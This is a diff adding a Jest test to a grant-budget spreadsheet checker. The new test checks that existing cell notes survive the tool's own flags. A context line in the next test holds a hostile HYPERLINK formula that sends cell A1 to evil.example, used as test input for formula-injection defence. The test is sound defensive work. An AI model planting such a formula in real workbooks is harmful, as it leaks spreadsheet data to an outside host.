@@ -140,6 +140,22 @@ describe('tilskudd check', () => {
     expect(c4.fill).not.toMatchObject({ pattern: 'solid' });
   });
 
+  it("keeps a person's note in a flagged cell and adds its own under it", async () => {
+    const wb = buildWorkbook(exampleWorkbook(), DEFAULT_SETTINGS);
+    wb.getWorksheet('Budsjett')!.getCell('C4').note = 'Spurt søker 12.05';
+    const file = tmp('noted.xlsx');
+    await wb.xlsx.writeFile(file);
+    const out = tmp('noted-checked.xlsx');
+    await cli('check', file, '--write', out);
+    const again = tmp('noted-again.xlsx');
+    await cli('check', out, '--write', again);
+    const checked = new ExcelJS.Workbook();
+    await checked.xlsx.readFile(again);
+    const note = String(checked.getWorksheet('Budsjett')!.getCell('C4').note);
+    expect(note).toMatch(/^Spurt søker 12\.05\nTilskudd: \[budget-incomplete\]/);
+    expect(note.match(/Tilskudd:/g)).toHaveLength(1);
+  });
+
   it('never turns user text into a formula, in the data or in the Avvik sheet', async () => {
     const hostile = '=HYPERLINK("https://evil.example/?"&A1,"klikk")';
     const values = edited((v) => {
